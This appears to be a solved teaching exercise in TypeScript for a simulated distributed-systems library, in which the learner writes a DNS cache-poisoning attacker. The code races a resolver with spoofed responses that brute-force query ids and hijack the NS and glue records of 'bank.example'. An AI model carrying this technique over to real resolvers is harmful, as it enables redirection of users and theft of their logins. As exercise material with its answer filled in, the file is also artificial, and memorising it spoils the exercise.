import { addressOf, DNS_PORT, respond, sendPacket } from 'distsys';
import type { Context, DnsPacket, Process, ProcessId, Query } from 'distsys';

/** What the attacker knows, and what it may do. */
export interface Mission {
  readonly resolver: string;                                     // whom to deceive: its address
  readonly port: number;                                         // from which the resolver sends all its queries
  readonly zone: string;                                         // what to take over: 'bank.example'
  readonly server: { readonly name: string; readonly address: string }; // its one name server, whom the resolver knows already
  readonly idBits: number;                                       // ids are drawn from 0 to 2^idBits - 1
  readonly guesses: number;                                      // forged packets that arrive before the genuine answer does, in each round
  readonly lead: string;                                         // the address that everyone is to get for every name of the zone
}

/**
 * Exercise 04/poison · 6 points · about 25 lines
 *
 * Be the attacker. You sit beside the path: you can write any address on a packet, and you do not see the resolver's queries. Take over the zone: in the end the
 * resolver must give `lead` for `www.bank.example`, and for any other name in the zone.
 *
 * `round` is called every second. In each round, make the resolver ask the zone's server something, and send it at most `guesses` forged responses. The
 * resolver answers from its memory what is there, so a name is good for one round. A forged response is believed if it comes from the address and port 53 of the
 * server that was asked, to the port from which it was asked, with the question and the id of the query, and with authority; and only what it says of names within the zone
 * is kept: answers, NS records in `authority`, and in `additional` the addresses of the servers that these name.
 *
 * The genuine answer ends a round. One forged response that is believed should do for ever: let it say who the zone's name server is, and be that
 * server. Queries that come to your address are given to `onMessage`; answer them.
 *
 * `respond(query, { authoritative: true, answers, authority, additional })` is the response to a query; make up the query that you cannot see. Packets are sent
 * by `sendPacket(ctx, packet)`, records look like `{ name, type: 'A', ttl: 3600, data: '203.0.113.66' }`, `addressOf(ctx.id)` is your own address, and
 * `ctx.random()` a number in [0, 1). Packets that you send together arrive in that order. Add the fields that you need; they must hold plain data.
 */
export class Attacker implements Process<DnsPacket> {
  rounds = 0; // so far, this one included
  readonly mission: Mission;

  constructor(mission: Mission) {
    this.mission = mission;
  }

  onStart(ctx: Context<DnsPacket>): void {
    ctx.setTimer('round', 1_000);
  }

  onTimer(ctx: Context<DnsPacket>, _name: string): void {
    this.rounds += 1;
    this.round(ctx);
    ctx.setTimer('round', 1_000);
  }

  /** One race against the genuine server. */
  round(ctx: Context<DnsPacket>): void {
    // --- learner's part: ask the resolver for something that it does not know, and answer it yourself, under a borrowed address. ---
    const { resolver, port, zone, server, idBits, guesses, lead } = this.mission;
    const name = `r${this.rounds}.${zone}`;
    const own = addressOf(ctx.id);
    const ask: Query = {
      type: 'Query', id: this.rounds, from: { address: own, port: 4_000 }, to: { address: resolver, port: DNS_PORT }, transport: 'udp', question: { name, type: 'A' }, recursionDesired: true,
    };
    sendPacket(ctx, ask);
    // Any ids are as good as others, for the resolver draws a new one each time; but each of them once.
    for (let id = 0; id < Math.min(guesses, 2 ** idBits); id += 1) {
      const unseen: Query = { ...ask, id, from: { address: resolver, port }, to: { address: server.address, port: DNS_PORT } };
      sendPacket(ctx, respond(unseen, {
        authoritative: true,
        answers: [{ name, type: 'A', ttl: 86_400, data: lead }],
        authority: [{ name: zone, type: 'NS', ttl: 86_400, data: server.name }],
        additional: [{ name: server.name, type: 'A', ttl: 86_400, data: own }],
      }));
    }
    // --- end of learner's part ---
  }

  onMessage(ctx: Context<DnsPacket>, _from: ProcessId, packet: DnsPacket): void {
    // --- learner's part: who takes you for the zone's name server gets an answer. ---
    if (packet.type !== 'Query') return;
    sendPacket(ctx, respond(packet, { authoritative: true, answers: [{ name: packet.question.name, type: 'A', ttl: 86_400, data: this.mission.lead }] }));
    // --- end of learner's part ---
  }
}
